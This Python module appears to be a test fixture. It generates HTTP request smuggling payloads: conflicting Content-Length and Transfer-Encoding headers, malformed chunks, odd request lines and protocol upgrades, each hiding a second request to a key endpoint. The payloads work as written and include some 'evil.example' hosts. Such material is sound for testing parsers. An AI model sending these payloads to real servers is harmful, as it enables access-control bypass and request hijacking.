"""Requests that two readers may take for different ones: lengths, codings, chunks, ends of lines, targets and upgrades.

Each holds `MARK`, the target of a request that hides in another. Whoever sees it as a request of its own has read the bytes so.
"""

from __future__ import annotations

from collections.abc import Iterator

MARK = b"/api/keys?smuggled"
HIDDEN = b"GET " + MARK + b" HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"
OPEN = b"GET " + MARK + b" HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Swallowed: "
"""Ends in the middle of a header, so that the next person's request becomes its value."""

CODINGS = {
    "plain": b"Transfer-Encoding: chunked",
    "another": b"Transfer-Encoding: xchunked",
    "blank before colon": b"Transfer-Encoding : chunked",
    "twice, one unknown": b"Transfer-Encoding: chunked\r\nTransfer-Encoding: x",
    "twice, the other way": b"Transfer-Encoding: x\r\nTransfer-Encoding: chunked",
    "folded": b"Transfer-Encoding:\r\n chunked",
    "name folded": b"Transfer-Encoding\r\n : chunked",
    "blank before name": b" Transfer-Encoding: chunked",
    "tab": b"Transfer-Encoding:\tchunked",
    "vertical tab": b"Transfer-Encoding: \x0bchunked",
    "control before": b"Transfer-Encoding: \x01chunked",
    "capitals": b"TRANSFER-ENCODING: CHUNKED",
    "identity first": b"Transfer-Encoding: identity, chunked",
    "identity last": b"Transfer-Encoding: chunked, identity",
    "quoted": b'Transfer-Encoding: "chunked"',
    "parameter": b"Transfer-Encoding: chunked;q=1",
    "underscore": b"Transfer_Encoding: chunked",
    "after a bare feed": b"X: y\nTransfer-Encoding: chunked",
    "after a bare return": b"X: y\rTransfer-Encoding: chunked",
    "nothing before": b"\x00Transfer-Encoding: chunked",
    "comma": b"Transfer-Encoding: chunked,",
    "deflated": b"Transfer-Encoding: gzip, chunked",
}
LENGTHS = {
    "other before": "Content-Length: 0\r\nContent-Length: {n}",
    "other after": "Content-Length: {n}\r\nContent-Length: 0",
    "list": "Content-Length: 0, {n}",
    "same list": "Content-Length: {n}, {n}",
    "plus": "Content-Length: +{n}",
    "minus": "Content-Length: -{n}",
    "hexadecimal": "Content-Length: 0x{n:x}",
    "digits of another script": "Content-Length: \u0661",
    "blank within": "Content-Length: 0 {n}",
    "fraction": "Content-Length: 0.{n}",
    "beyond all bounds": "Content-Length: 18446744073709551616",
    "folded": "Content-Length:\r\n {n}",
    "vertical tab": "Content-Length: \x0b{n}",
    "blank before colon": "Content-Length : {n}",
    "empty": "Content-Length:",
    "after a bare feed": "X: y\nContent-Length: {n}",
    "nothing within": "Content-Length: 0\x00{n}",
}
CHUNKS = {
    "extension": b"5;a=b\r\nhello\r\n0\r\n\r\n",
    "extension with a bare feed": b"5;\nx\r\nhello\r\n0\r\n\r\n" + HIDDEN,
    "bare feed as end": b"5\nhello\n0\n\n" + HIDDEN,
    "spilling": b"5\r\nhelloXX0\r\n\r\n" + HIDDEN,
    "spilling a request": b"2\r\nxx" + b"\r\n0\r\n\r\n" + HIDDEN,
    "prefix": b"0x5\r\nhello\r\n0\r\n\r\n" + HIDDEN,
    "blank before": b" 5\r\nhello\r\n0\r\n\r\n",
    "blank after": b"5 \r\nhello\r\n0\r\n\r\n",
    "plus": b"+5\r\nhello\r\n0\r\n\r\n" + HIDDEN,
    "beyond all bounds": b"10000000000000005\r\nhello\r\n0\r\n\r\n" + HIDDEN,
    "no number": b";a\r\n\r\n" + HIDDEN,
    "trailers": b"0\r\nContent-Length: 60\r\nHost: evil.example\r\n\r\n",
    "last chunk with extension": b"0;\nGET /x HTTP/1.1\r\n\r\n" + HIDDEN,
    "bare return": b"5\rhello\r0\r\r" + HIDDEN,
}
TARGETS = {
    "absolute": b"GET http://evil.example/api/session HTTP/1.1",
    "absolute, ours": b"GET http://127.0.0.1/api/keys HTTP/1.1",
    "authority": b"CONNECT 127.0.0.1:80 HTTP/1.1",
    "star": b"OPTIONS * HTTP/1.1",
    "two slashes": b"GET //evil.example/api/keys HTTP/1.1",
    "two versions": b"GET /api/keys HTTP/1.1 HTTP/1.1",
    "blanks": b"GET  /api/keys HTTP/1.1",
    "nothing within": b"GET /api/keys\x00 HTTP/1.1",
    "tab": b"GET\t/api/keys\tHTTP/1.1",
    "another version": b"GET /api/keys HTTP/1.9",
    "the next version": b"PRI * HTTP/2.0",
    "no version": b"GET /api/keys",
    "fragment": b"GET /api/keys#x HTTP/1.1",
    "before the method": b"\r\nGET /api/keys HTTP/1.1",
    "feed in the target": b"GET /api/keys\nX: HTTP/1.1",
}
UPGRADES = {
    "wrong version of sockets": b"GET /live HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
    b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 777\r\n\r\n",
    "no key": b"GET /live HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
    b"Sec-WebSocket-Version: 13\r\n\r\n",
    "no such place": b"GET /api/keys HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
    b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n",
    "of another site": b"GET /live HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
    b"Origin: http://evil.example\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n",
    "with a body": b"POST /live HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nContent-Length: "
    + str(len(HIDDEN)).encode()
    + b"\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n"
    + b"x" * len(HIDDEN),
    "h2c": b"GET /api/keys HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n"
    b"HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n",
    "h2c with a body": b"POST /api/session HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n"
    b"HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\nContent-Length: 2\r\n\r\n{}",
    "TLS": b"GET /api/keys HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: Upgrade\r\nUpgrade: TLS/1.2\r\n\r\n",
    "upgrade without connection": b"GET /api/keys HTTP/1.1\r\nHost: 127.0.0.1\r\nUpgrade: websocket\r\n\r\n",
}
POST = b"POST /api/session HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"


def attacks() -> Iterator[tuple[str, bytes]]:
    """Each by its name, as it goes over the line; what hides in them follows where the one that is told ends."""
    for name, coding in CODINGS.items():
        for hidden, of in ((HIDDEN, "a request"), (OPEN, "the beginning of one")):
            told = b"Content-Length: %d\r\n" % (5 + len(hidden))
            yield f"length over chunks, {name}, {of}", POST + told + coding + b"\r\n\r\n0\r\n\r\n" + hidden
            chunk = b"%x\r\n" % len(hidden)
            told = b"Content-Length: %d\r\n" % len(chunk)
            yield f"chunks over length, {name}, {of}", POST + told + coding + b"\r\n\r\n" + chunk + hidden + b"\r\n0\r\n\r\n"
    for name, length in LENGTHS.items():
        yield f"length, {name}", POST + length.format(n=len(HIDDEN)).encode() + b"\r\n\r\n" + HIDDEN
    for name, chunks in CHUNKS.items():
        yield f"chunk, {name}", POST + b"Transfer-Encoding: chunked\r\n\r\n" + chunks
    for name, line in TARGETS.items():
        yield f"target, {name}", line + b"\r\nHost: 127.0.0.1\r\n\r\n" + HIDDEN
    body = b"Content-Length: %d\r\n\r\n" % len(HIDDEN) + HIDDEN
    yield "a body where none belongs", b"GET /api/keys HTTP/1.1\r\nHost: 127.0.0.1\r\n" + body
    yield "a body of a look at headers alone", b"HEAD /api/keys HTTP/1.1\r\nHost: 127.0.0.1\r\n" + body
    yield "a body that is waited for", POST + b"Expect: 100-continue\r\n" + body
    yield "a body that is waited for otherwise", POST + b"Expect: y 100-continue\r\n" + body
    yield (
        "chunks of the version before",
        POST.replace(b"1.1", b"1.0")
        + (b"Connection: keep-alive\r\nTransfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n" + HIDDEN),
    )
    yield "ends of lines without returns", POST.replace(b"\r\n", b"\n") + b"Content-Length: 0\n\n" + HIDDEN
    yield "an end of headers without a return", POST + b"Content-Length: 0\r\n\n" + HIDDEN
    yield "returns alone", POST.replace(b"\r\n", b"\r") + b"\r" + HIDDEN
    yield "a header without a colon", POST + b"Content-Length 5\r\n\r\n" + HIDDEN
    yield "a header without a name", POST + b": 5\r\n\r\n" + HIDDEN
    yield "a connection that is to end", POST + b"Connection: close\r\nContent-Length: 0\r\n\r\n" + HIDDEN
    yield "a length that the connection strikes", POST + b"Connection: Content-Length\r\n" + body
    for name, upgrade in UPGRADES.items():
        yield f"upgrade, {name}", upgrade + HIDDEN
